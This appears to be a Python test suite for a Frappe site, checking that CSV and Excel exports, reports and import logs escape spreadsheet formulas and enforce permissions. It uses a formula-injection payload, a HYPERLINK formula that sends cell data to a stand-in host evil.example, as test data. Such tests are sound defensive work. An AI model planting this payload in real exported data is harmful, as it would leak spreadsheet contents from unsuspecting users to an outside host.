"""Whatever is taken out of the site for a spreadsheet: nothing in it is run, and it comes back as it was."""

import csv
import io
from types import SimpleNamespace
from unittest.mock import patch

import frappe
import openpyxl
from frappe.handler import execute_cmd

from .. import world as build
from ..base import SiteTest

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LIST = "frappe.desk.reportview.export_query"
REPORT = "frappe.desk.query_report.export_query"
DATA = "frappe.core.doctype.data_export.exporter.export_data"
TEMPLATE = "frappe.core.doctype.data_import.data_import.download_template"
REFUSED = "frappe.core.doctype.data_import.data_import.download_errored_template"
LOG = "frappe.core.doctype.data_import.data_import.download_import_log"


class Exports(SiteTest):
	@classmethod
	def build_world(cls):
		return build.make_tower("Export Tower", floors=1)

	def setUp(self):
		super().setUp()
		self.incident = self.declare(description=EVIL)
		self.only = [["Outage Incident", "name", "=", self.incident]]

	def taken_out(self, method: str, who: str = "manager", **form) -> list[list]:
		"""The rows of the file that a client of Frappe gets, by its own road: the hooks decide what answers."""
		form = {key: value if isinstance(value, str) else frappe.as_json(value) for key, value in form.items()}
		asked = SimpleNamespace(method="POST", host="localhost", scheme="http", headers={})
		with patch.object(frappe.local, "request", asked, create=True), self.as_user(who):
			frappe.local.form_dict, frappe.local.response = frappe._dict(form, cmd=method), frappe._dict()
			execute_cmd(method)
		response = frappe.local.response
		if response.type == "csv":
			return list(csv.reader(io.StringIO(response["result"])))
		if response.filename.endswith(".csv"):
			text = response.filecontent.decode()
			return list(csv.reader(io.StringIO(text), delimiter=form.get("csv_delimiter", ",")))
		return self.sheet(response.filecontent)

	def sheet(self, content: bytes) -> list[list]:
		sheet = openpyxl.load_workbook(io.BytesIO(content)).active
		self.assertNotIn("f", {cell.data_type for row in sheet.iter_rows() for cell in row})
		return [[cell.value for cell in row] for row in sheet.iter_rows()]

	def roads(self, file: str) -> dict[str, dict]:
		"""Every door by which records of ours leave as a file, as Desk asks for it; `file` is CSV or Excel."""
		fields = ["name", "description"]
		return {
			LIST: {
				"doctype": "Outage Incident",
				"fields": [f"`tabOutage Incident`.`{field}`" for field in fields],
				"filters": self.only,
				"file_format_type": file,
				"title": "Outage Incident",
			},
			DATA: {
				"doctype": "Outage Incident",
				"select_columns": {"Outage Incident": fields},
				"filters": {"name": self.incident},
				"file_type": file,
				"with_data": "1",
				"export_without_column_meta": "true",
			},
			TEMPLATE: {
				"doctype": "Outage Incident",
				"export_fields": {"Outage Incident": fields},
				"export_records": "by_filter",
				"export_filters": {"name": self.incident},
				"file_type": file,
			},
		}

	def test_by_every_door_what_would_be_run_is_text(self):
		for file, kept in (("CSV", f"'{EVIL}"), ("Excel", EVIL)):
			for method, form in self.roads(file).items():
				with self.subTest(method, file=file):
					cells = [cell for row in self.taken_out(method, who="Administrator", **form) for cell in row]
					self.assertIn(self.incident, [str(cell).strip('"') for cell in cells])
					self.assertIn(kept, cells)
					self.assertEqual([cell for cell in cells if cell == EVIL], [EVIL] if file == "Excel" else [])

	def test_by_another_delimiter(self):
		form = self.roads("CSV")[LIST]
		rows = self.taken_out(LIST, **form, csv_delimiter=";", csv_quoting="0")
		self.assertIn(f"'{EVIL}", rows[1])

	def make_report(self) -> None:
		doc = {"ref_doctype": "Outage Incident", "report_name": "Export Test", "report_type": "Query Report"}
		query = f"select '{EVIL}' as said"
		frappe.get_doc({"doctype": "Report", **doc, "is_standard": "No", "query": query}).insert()

	def test_a_report(self):
		self.make_report()
		for file, kept in (("CSV", f"'{EVIL}"), ("Excel", EVIL)):
			rows = self.taken_out(REPORT, report_name="Export Test", file_format_type=file, filters={}, visible_idx=[0])
			self.assertIn(kept, [cell for row in rows for cell in row], file)

	def test_a_report_that_is_mailed(self):
		self.make_report()
		for file, kept in (("CSV", f"'{EVIL}"), ("XLSX", EVIL)):
			doc = frappe.get_doc({"doctype": "Auto Email Report", "report": "Export Test", "format": file})
			doc.update({"report_type": "Query Report", "user": "Administrator", "filters": "{}"})
			content = doc.get_report_content()
			rows = list(csv.reader(io.StringIO(content))) if file == "CSV" else self.sheet(content)
			self.assertIn(kept, [cell for row in rows for cell in row], file)

	def test_rows_that_an_import_refused(self):
		content = 'Unit No,Property\n"{}",nowhere\n'.format(EVIL.replace('"', '""'))
		doc = frappe.get_doc(
			{"doctype": "Data Import", "reference_doctype": "Property Unit", "import_type": "Insert New Records"}
		).insert()
		file = {"doctype": "File", "file_name": "units.csv", "content": content, "is_private": 1}
		file = frappe.get_doc({**file, "attached_to_doctype": doc.doctype, "attached_to_name": doc.name}).insert()
		self.addCleanup(frappe.delete_doc, "File", file.name, ignore_missing=True)
		doc.db_set("import_file", file.file_url)
		row = {"data_import": doc.name, "row_indexes": "[2]", "success": 0, "messages": '[{"message": "x"}]'}
		log = frappe.get_doc({"doctype": "Data Import Log", **row}).insert()
		self.addCleanup(frappe.db.delete, "Data Import Log", {"name": log.name})  # a table without transactions
		for method in (REFUSED, LOG):
			rows = self.taken_out(method, who="Administrator", data_import_name=doc.name)
			self.assertTrue(rows, method)
			self.assertNotIn(EVIL, [cell for row in rows for cell in row], method)
			for who in ("guard1", "service"):
				with self.subTest(method, who=who), self.assertRaises(frappe.PermissionError):
					self.taken_out(method, who=who, data_import_name=doc.name)

	def test_doctypes_of_others_stay_as_they_are(self):
		frappe.get_doc({"doctype": "Note", "title": EVIL, "public": 1}).insert()
		form = {"doctype": "Note", "fields": ["title"], "file_format_type": "CSV", "filters": [["title", "=", EVIL]]}
		self.assertIn(EVIL, self.taken_out(LIST, who="Administrator", **form)[1])

	def test_what_was_taken_out_comes_back_as_it_was(self):
		frappe.flags.in_import = True
		self.addCleanup(frappe.flags.pop, "in_import", None)
		asset = build.make_asset(self.property, f"'{EVIL}", "Elevator", power_node=self.shafts[0])
		self.assertEqual(frappe.db.get_value("Property Asset", asset, "asset_name"), EVIL)
